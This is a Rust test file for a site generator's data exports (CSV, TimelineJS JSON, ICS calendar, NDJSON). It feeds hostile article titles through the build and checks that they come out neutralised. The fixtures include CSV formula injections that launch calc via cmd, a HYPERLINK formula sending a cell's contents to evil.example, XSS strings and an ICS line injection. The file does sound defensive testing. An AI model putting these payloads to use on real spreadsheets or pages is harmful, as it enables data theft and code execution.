//! Texts that attack whoever reads the files: spreadsheets, calendars, TimelineJS, and programs that read line by line.

use std::collections::BTreeSet;

use scraper::Html;
use serde_json::Value;

use crate::site::Site;
use crate::{Files, build, lines, text};

/// Titles of articles, each of which is a formula, a tag, or the end of something.
const TITLES: [&str; 14] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"look\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "' =1+1",
    "''-1",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "\"><a href=javascript:alert(1)>x</a>",
    "a, b; c \\n END:VEVENT",
    "a\"b,\"\"c\"",
    "https://evil.example/ www.evil.example",
];

fn site() -> Site {
    let site = Site::in_memory();
    site.write("site.toml", "title = \"A <b>title</b>\"\nbase_url = \"https://example.org/\"\n");
    for (number, title) in TITLES.iter().enumerate() {
        let title = title.replace('\\', "\\\\").replace('"', "\\\"");
        let (day, address) = (number + 1, format!("https://example.net/{number}"));
        site.write(
            &format!("content/articles/2020-01-{day:02}-a{number}.md"),
            format!(
                "---\ntitle: \"{title}\"\nauthor: \"=cmd()\"\ndate: 2020-01-{day:02}\noriginal_url: {address}\n\
                 tags: [t]\nsummary: \"{title}\"\n---\nText.\n"
            ),
        );
        site.write(
            &format!("content/events/e{number}.md"),
            format!("---\ntitle: \"{title}\"\ndate: 2020-02-{day:02}\nsummary: \"{title}\"\n---\nText.\n"),
        );
    }
    site
}

/// What a cell of the table says, had back as docs/data.md tells.
fn as_meant(cell: &str) -> &str {
    let sign = cell.trim_start_matches(['\'', ' ', '\u{a0}', '\n']);
    let is_one = sign.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    cell.strip_prefix('\'').filter(|_| is_one).unwrap_or(cell)
}

fn built() -> Files {
    build(&site())
}

#[test]
fn no_cell_is_a_formula_and_every_cell_can_be_had_back() {
    let files = built();
    let mut reader = csv::Reader::from_reader(files["data/timeline.csv"].as_slice());
    let mut titles = BTreeSet::new();
    for row in reader.records().map(Result::unwrap) {
        for cell in &row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell}");
        }
        titles.insert(as_meant(&row[5]).to_owned());
    }
    assert_eq!(titles, TITLES.iter().map(|title| (*title).to_owned()).collect());
}

#[test]
fn what_timelinejs_puts_into_a_page_is_text() {
    let files = built();
    let timeline: Value = serde_json::from_str(text(&files, "data/timeline.json")).unwrap();
    let mut shown = BTreeSet::new();
    for slide in timeline["events"].as_array().unwrap().iter().chain([&timeline["title"]]) {
        for key in ["headline", "text"] {
            let document = Html::parse_fragment(slide["text"][key].as_str().unwrap());
            for element in document.root_element().descendent_elements().skip(1) {
                match element.value().name() {
                    "p" => assert_eq!(element.value().attrs().count(), 0),
                    "a" => {
                        let attributes: Vec<(&str, &str)> = element.value().attrs().collect();
                        assert!(
                            matches!(attributes.as_slice(), [("href", to)] if to.starts_with("https://example.org/"))
                        );
                    }
                    other => panic!("<{other}> in {slide}"),
                }
            }
            shown.insert(document.root_element().text().collect::<String>());
        }
    }
    assert!(TITLES.iter().all(|title| shown.contains(*title)), "{shown:?}");
}

#[test]
fn no_text_ends_a_line_of_a_calendar() {
    let files = built();
    let calendar = text(&files, "data/events.ics").replace("\r\n ", "");
    let count = |line: &str| calendar.split("\r\n").filter(|found| *found == line).count();
    assert_eq!((count("BEGIN:VEVENT"), count("END:VEVENT")), (TITLES.len(), TITLES.len()));
    assert!(calendar.contains("SUMMARY;LANGUAGE=en:a\\, b\\; c \\\\n END:VEVENT\r\n"), "{calendar}");
}

#[test]
fn every_line_is_one_object_and_texts_are_as_written() {
    let files = built();
    let titles: BTreeSet<String> = lines(&files, "data/articles.ndjson")
        .iter()
        .map(|article| article["title"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(titles, TITLES.iter().map(|title| (*title).to_owned()).collect());
}
